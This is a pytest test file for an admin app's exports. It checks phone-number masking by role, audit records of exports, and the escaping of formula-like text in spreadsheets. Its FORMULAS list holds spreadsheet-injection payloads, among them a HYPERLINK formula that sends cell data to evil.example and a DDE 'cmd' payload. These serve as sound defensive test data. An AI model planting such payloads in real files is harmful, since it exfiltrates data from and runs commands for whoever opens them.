"""Attacks on the exports, role by role: personal data leaves masked unless the role
may take phone numbers in bulk (models.access: Scope.may_export_phones), each export says in
the audit trail how many numbers went out in full, and text that looks like a formula
reaches the spreadsheet as text, in every xlsx and csv the app writes."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from io import BytesIO

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from admin.cells import safe_cell
from models import (
    AuditRecord,
    Grid,
    Person,
    RosterEntry,
    RosterRole,
    Submission,
    SubmissionState,
)

XINGYAN = "445302001003"
FULL = re.compile(r"\b100\d{8}\b")  # the demo's mobiles, 100-0766-xxxx
MASKED = re.compile(r"\b100\*{4}\d{4}\b")
# Role → whether it takes liaison phones in full in an export.
ROLES = {"demo_admin": True, "demo_town_centre": True, "demo_city_committee": False,
         "demo_yuncheng_committee": False, "demo_court_yuncheng": False,
         "demo_court_city": False}
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


def last_export(session) -> AuditRecord:
    session.expire_all()
    return session.scalar(select(AuditRecord).where(AuditRecord.action == "export")
                          .order_by(AuditRecord.seq.desc()).limit(1))


def sheet_text(data: bytes) -> list[list]:
    sheet = load_workbook(BytesIO(data)).active
    return [list(r) for r in sheet.iter_rows(min_row=3, values_only=True)]


def xingyan_liaison(session) -> RosterEntry:
    return session.scalar(RosterEntry.current().join(Grid, RosterEntry.grid_id == Grid.id)
                          .where(Grid.code == XINGYAN, RosterEntry.role == RosterRole.liaison))


# --- Masking --------------------------------------------------------------------------

@pytest.mark.parametrize(("username", "full"), ROLES.items())
def test_the_liaison_list_is_masked_unless_the_role_takes_phones_in_bulk(
        client_as, session, username, full):
    response = client_as(username).get("/admin/directory/export/liaisons.xlsx")
    assert response.status_code == 200
    phones = [r[4] for r in sheet_text(response.data) if r[4]]
    assert phones
    if full:
        assert all(FULL.fullmatch(p) for p in phones)
    else:
        assert all(MASKED.fullmatch(p) for p in phones), username
    record = last_export(session)
    assert record.actor == username and record.entity_id == "liaisons"
    assert record.after["phones_full"] == (len(phones) if full else 0)
    assert record.after["phones"] == ("full" if full else "masked")


def test_court_staff_see_an_approved_list_with_phones_masked(client_as, session):
    """The page of an approved list is a list of numbers too: masked for court staff,
    in full for the town centre that reported it."""
    town, committee = client_as("demo_town_centre"), client_as("demo_yuncheng_committee")
    started = town.post("/admin/directory/new/", data={})
    submission = re.search(r"/admin/directory/([0-9a-f-]{36})/", started.headers["Location"])[1]
    assert town.post(f"/admin/directory/{submission}/submit/", data={}).status_code == 302
    assert committee.post(f"/admin/directory/{submission}/approve/", data={
        "effective_from": date.today().isoformat(), "comment": ""}).status_code == 302
    session.expire_all()
    assert session.get(Submission, submission).state is SubmissionState.approved
    url = f"/admin/directory/{submission}/"
    assert FULL.search(town.get(url).get_data(as_text=True))
    page = client_as("demo_court_city").get(url).get_data(as_text=True)
    assert MASKED.search(page) and not FULL.search(page)


@pytest.mark.parametrize("username", ["demo_admin", *[u for u, f in ROLES.items() if not f],
                                      "demo_town_liaison", "demo_liaison", "demo_worker"])
def test_the_roster_csv_is_masked_and_its_export_audited(client_as, session, username):
    export = client_as(username).get("/admin/roster/export/csv/").get_data(as_text=True)
    assert MASKED.search(export) and not FULL.search(export)
    record = last_export(session)
    assert record.actor == username and record.entity == "roster"
    assert record.after["phones_full"] == 0 and record.after["rows"] > 0


def test_the_court_contacts_go_out_in_full_and_are_counted(client_as, session):
    """Court contacts are there to be called by the grids (as on the court list page)."""
    rows = list(csv.reader(io.StringIO(client_as("demo_worker").get(
        "/admin/court/export/csv/").get_data(as_text=True))))
    record = last_export(session)
    assert record.entity == "court" and record.after["rows"] == len(rows) - 1
    assert record.after["phones_full"] > 0


# --- Formulas -------------------------------------------------------------------------

@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_is_neutralised(text):
    assert safe_cell(text) == "'" + text
    assert safe_cell("星岩社区") == "星岩社区" and safe_cell(None) is None
    assert safe_cell(10007660001) == 10007660001


@pytest.fixture
def formula_person(session):
    """The Xingyan liaison renamed to a formula, as if typed into a form."""
    entry = xingyan_liaison(session)
    person = session.get(Person, entry.person_id)
    person.name = FORMULAS[0]
    session.flush()
    return person


def test_a_formula_name_is_text_in_the_liaison_list(client_as, formula_person):
    data = client_as("demo_admin").get("/admin/directory/export/liaisons.xlsx").data
    sheet = load_workbook(BytesIO(data)).active
    cells = [c for row in sheet.iter_rows(min_row=3) for c in row
             if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" and c.value == "'" + FORMULAS[0] for c in cells)


def test_a_formula_name_is_text_in_the_roster_csv(client_as, formula_person):
    export = client_as("demo_court_city").get(f"/admin/roster/export/csv/?search={XINGYAN}")
    rows = list(csv.reader(io.StringIO(export.get_data(as_text=True))))
    names = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert names and all(name.startswith("'=") for name in names)


def test_a_formula_name_is_text_in_the_town_template(client_as, formula_person):
    data = client_as("demo_town_centre").get("/admin/directory/template.xlsx").data
    names = [v for row in sheet_text(data) for v in row
             if isinstance(v, str) and "HYPERLINK" in v]
    assert names == ["'" + FORMULAS[0]]
